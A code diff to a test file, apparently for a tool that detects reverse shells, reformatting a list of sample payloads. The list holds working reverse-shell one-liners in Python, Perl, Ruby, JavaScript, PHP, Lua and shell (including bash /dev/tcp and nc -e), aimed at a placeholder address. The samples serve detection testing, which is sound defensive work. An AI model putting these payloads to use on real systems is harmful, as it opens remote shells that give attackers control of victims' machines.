@@ -79,18 +79,24 @@ def test_an_interactive_shell_is_found_and_high(language, text):
 REVERSE_SHELLS = [
     (
         "python",
-        "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\n"
-        "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('sh')",
+        (
+            "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\n"
+            "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('sh')"
+        ),
     ),
     (
         "python",
-        "import socket, subprocess as p\nc = socket.create_connection(('192.0.2.1', 1))\n"
-        "while True:\n    c.send(p.getoutput(c.recv(999).decode()).encode())",
+        (
+            "import socket, subprocess as p\nc = socket.create_connection(('192.0.2.1', 1))\n"
+            "while True:\n    c.send(p.getoutput(c.recv(999).decode()).encode())"
+        ),
     ),
     (
         "perl",
-        'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(1, inet_aton("192.0.2.1")));'
-        ' open(STDIN, ">&S"); open(STDOUT, ">&S"); exec("/bin/sh -i");',
+        (
+            'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(1, inet_aton("192.0.2.1")));'
+            ' open(STDIN, ">&S"); open(STDOUT, ">&S"); exec("/bin/sh -i");'
+        ),
     ),
     (
         "ruby",
@@ -99,15 +105,19 @@ REVERSE_SHELLS = [
     ("ruby", 'spawn("sh", [:in, :out, :err] => TCPSocket.new("192.0.2.1", 1))'),
     (
         "javascript",
-        "const s = require('child_process').spawn('sh'); require('net').connect(1, '192.0.2.1', function () "
-        "{ this.pipe(s.stdin); s.stdout.pipe(this) })",
+        (
+            "const s = require('child_process').spawn('sh'); require('net').connect(1, '192.0.2.1', function () "
+            "{ this.pipe(s.stdin); s.stdout.pipe(this) })"
+        ),
     ),
     ("php", '$s = fsockopen("192.0.2.1", 1); exec("/bin/sh -i <&3 >&3 2>&3");'),
     ("php", '$s = stream_socket_client("tcp://192.0.2.1:1"); while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }'),
     (
         "lua",
-        'local s = require("socket").tcp(); s:connect("192.0.2.1", 1); while true do local r = s:receive();'
-        ' local f = assert(io.popen(r, "r")); s:send(f:read("*a")) end',
+        (
+            'local s = require("socket").tcp(); s:connect("192.0.2.1", 1); while true do local r = s:receive();'
+            ' local f = assert(io.popen(r, "r")); s:send(f:read("*a")) end'
+        ),
     ),
     ("shell", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"),
     ("shell", "nc -e /bin/sh 192.0.2.1 1"),
